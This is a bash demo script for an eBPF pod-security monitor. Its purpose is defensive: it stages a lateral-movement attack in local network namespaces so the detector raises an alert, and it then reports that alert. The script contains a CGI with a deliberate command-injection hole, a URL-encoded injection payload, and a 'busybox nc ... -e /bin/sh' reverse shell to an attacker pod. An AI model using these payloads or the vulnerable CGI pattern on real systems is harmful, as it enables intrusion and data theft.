#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# podsentry demo: the lateral-movement story, without Kubernetes.
# Three pods made by the real [bridge, podsentry-cni] CNI chain:
#   web      busybox httpd with a CGI that has a command injection
#   attacker waits for a reverse shell on port 4444
#   elastic  an HTTP service on 9200 (the internal Elasticsearch)
# A normal request to web (no alert), then the exploit: the CGI starts
# `busybox nc ATTACKER 4444 -e /bin/sh`, and through that shell the
# attacker reads elastic:9200. podsentryd sees both halves in the kernel
# and writes one critical lateral-movement alert with the whole chain.
# Prints each pod's log, the alert, where the files are, and writes the
# HTML report of the story (podsentry report) and prints its path; leaves nothing
# running or configured behind (the output files stay in $DEMO_OUT).
set -u
ROOT=$(cd "$(dirname "$0")/.." && pwd)
B=${BUILD:-$ROOT/build}
P=psd$(( $$ % 100000 ))
export T=${DEMO_OUT:-/tmp/podsentry-demo}
BPFFS=/sys/fs/bpf/podsentry-demo-$P
PODSENTRY_CNI=$B/podsentry-cni
DPID=
PIDS=()

[ "$(id -u)" = 0 ] || { echo "demo: run as root (it loads BPF programs)" >&2; exit 1; }
for c in jq busybox; do
	command -v $c >/dev/null || { echo "demo: $c is missing (make deps)" >&2; exit 1; }
done
rm -rf "$T" && mkdir -p "$T"
# the CNI chain exactly as a runtime runs it (shared with the tests)
. "$ROOT/tests/cni/lib-cni.sh"

NW=${P}web NA=${P}atk NE=${P}els
cleanup() {
	local p
	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
	for ns in $NW $NA $NE; do
		ip netns pids "$ns" 2>/dev/null | xargs -r kill -KILL 2>/dev/null
	done
	if [ -n "$DPID" ]; then
		kill -TERM "$DPID" 2>/dev/null
		wait "$DPID" 2>/dev/null
	fi
	for ns in $NW $NA $NE; do
		[ -e "$CNI_CACHE/$ns-eth0.json" ] && cni_del "$ns" "$ns" >/dev/null 2>&1
		ip netns del "$ns" 2>/dev/null
	done
	ip link del "$BR" 2>/dev/null
	rm -rf "$BPFFS" "$T/ipam" "$CNI_CACHE" "$T/state" "$T/www"
}
trap cleanup EXIT

cat >"$T/config.json" <<'JSON'
{
	"rules": { "new-east-west-peer": { "learning_window": 2 } },
	"allow": [ { "namespace": "demo", "pod": "attacker" } ]
}
JSON

echo "== podsentryd (bpffs $BPFFS, config $T/config.json)"
"$B/podsentryd" --bpffs "$BPFFS" --state-dir "$STATE" --node-name demo-node \
	--export "$T/events.json" --log-dir "$T/logs" --alerts "$T/alerts.json" \
	--state-file "$T/detect-state.json" --config "$T/config.json" --socket "$T/podsentryd.sock" \
	--flow-idle 6 --flow-update 1 2>"$T/podsentryd.log" &
DPID=$!
for _ in $(seq 200); do
	grep -q 'podsentryd: ready' "$T/podsentryd.log" && break
	kill -0 $DPID 2>/dev/null || { cat "$T/podsentryd.log"; exit 1; }
	sleep 0.05
done

echo "== three pods through the CNI chain [bridge, podsentry-cni]"
cni_conflist
pod_add() { # NETNS NAME
	# IPv4 only: no IPv6 neighbour discovery chatter in the logs
	ip netns add "$1" && ip -n "$1" link set lo up &&
		ip netns exec "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 \
			net.ipv6.conf.default.disable_ipv6=1 &&
		cni_add "$1" "$1" eth0 "IgnoreUnknown=1;K8S_POD_NAMESPACE=demo;K8S_POD_NAME=$2;K8S_POD_UID=uid-$2" >"$T/$2.cni.json" &&
		jq -r '.ips[0].address' "$T/$2.cni.json" | cut -d/ -f1
}
IPW=$(pod_add $NW web) && IPA=$(pod_add $NA attacker) && IPE=$(pod_add $NE elastic) ||
	{ echo "demo: CNI ADD failed: $(cat "$T"/*.cni.json)" >&2; exit 1; }
printf '   web %s   attacker %s   elastic %s\n' "$IPW" "$IPA" "$IPE"

# web: a "hello" CGI that passes its parameter to a shell (the bug)
mkdir -p "$T/www/web/cgi-bin" "$T/www/elastic/_cat"
cat >"$T/www/web/cgi-bin/hello" <<'CGI'
#!/bin/sh
echo "Content-Type: text/plain"
echo
name=$(busybox httpd -d "${QUERY_STRING#name=}")
sh -c "echo Hello $name"
CGI
chmod +x "$T/www/web/cgi-bin/hello"
echo "web      pay   open  2  1  3.1mb" >"$T/www/elastic/_cat/indices"
echo "customers     open  1  1  98mb" >>"$T/www/elastic/_cat/indices"
ip netns exec $NW busybox httpd -f -p 80 -h "$T/www/web" & PIDS+=($!); WPID=$!
ip netns exec $NE busybox httpd -f -p 9200 -h "$T/www/elastic" & PIDS+=($!); EPID=$!
# attacker: waits for the shell, then types two commands into it
ip netns exec $NA sh -c "(sleep 4; echo 'id; busybox wget -q -O - http://$IPE:9200/_cat/indices'; sleep 2; echo exit) |
	busybox nc -l -p 4444 >$T/attacker-session.txt" & PIDS+=($!); APID=$!
# listening? (read from the host: an exec into a pod would be in its log)
for port in "$WPID 0050" "$EPID 23F0" "$APID 115C"; do
	set -- $port
	for _ in $(seq 100); do
		cat /proc/$1/net/tcp /proc/$1/net/tcp6 2>/dev/null | grep -q ":$2 .* 0A " && break
		sleep 0.05
	done
done
sleep 2 # web's learning window (2 s in this demo's config) ends

# the requests come from the attacker pod (allowed in the config)
echo "== a normal request to web"
ip netns exec $NA timeout 5 busybox wget -q -O - "http://$IPW/cgi-bin/hello?name=world" | sed 's/^/   /'
echo "== the exploit: ?name=x;busybox nc $IPA 4444 -e /bin/sh"
ip netns exec $NA timeout 15 busybox wget -q -O /dev/null \
	"http://$IPW/cgi-bin/hello?name=x%3Bbusybox%20nc%20$IPA%204444%20-e%20/bin/sh" 2>/dev/null
echo "== what the attacker read through the shell (elastic:9200)"
sed 's/^/   /' "$T/attacker-session.txt"

ok=
for _ in $(seq 200); do
	if [ -n "$(jq -c 'select(.alert.rule=="lateral-movement")' "$T/alerts.json" 2>/dev/null)" ]; then
		ok=1; break
	fi
	sleep 0.05
done
sleep 1.5 # the last flows end (idle 2 s, linger)
echo
echo "== podsentry alerts (what the daemon holds open)"
"$B/podsentry" --socket "$T/podsentryd.sock" alerts --color never | sed 's/^/   /'
kill -TERM $DPID; wait $DPID; DPID=

echo
echo "== each pod's log (compact)"
for pod in web attacker elastic; do
	echo "-- demo/$pod"
	jq -r '(.time[11:23]) + "  " +
	if .type == "process_exec" then
		"exec  \(.process.pid) \(.process.args | join(" ") | .[:70])" +
		((.parent.binary // "") | if . == "" then "" else "  ← " + (split("/") | last) end)
	elif .type == "process_exit" then "exit  \(.process.pid) \(.process.binary | split("/") | last) → \(.exit_code)"
	elif .type == "flow" then
		"flow  \(.flow.protocol) \(.flow.src.pod.name // .flow.src.ip):\(.flow.src.port // "") → \(.flow.dst.pod.name // .flow.dst.ip):\(.flow.dst.port // "")  out \(.flow.bytes_out) B in \(.flow.bytes_in) B  \(.flow.state)\(if .flow.final then "" else " (update)" end)"
	elif .type == "alert" then "ALERT \(.alert.severity) \(.alert.rule): \(.alert.summary)"
	elif .type == "connect" then "connect \(.process.binary | split("/") | last) → \(.socket.dst.pod.name // .socket.dst.ip):\(.socket.dst.port)"
	else .type end' "$T/logs/demo/$pod.log" | grep -v '  flow  icmpv6 \|  flow  2 ' # igmp, ND
done
echo
echo "== the lateral-movement alert"
jq 'select(.alert.rule == "lateral-movement")' "$T/alerts.json"
echo
echo "Files: all records $T/events.json, alerts $T/alerts.json,"
echo "       pod logs $T/logs/demo/{web,attacker,elastic}.log, daemon log $T/podsentryd.log,"
echo "       learned baseline and open alerts $T/detect-state.json"
[ -n "$ok" ] || { echo "demo: no lateral-movement alert" >&2; exit 1; }
echo
"$B/podsentry" report --file "$T/events.json" -o "$T/report.html" ||
	{ echo "demo: the report was not written" >&2; exit 1; }
echo "Report (service map, the alert's chain and timeline): $T/report.html"
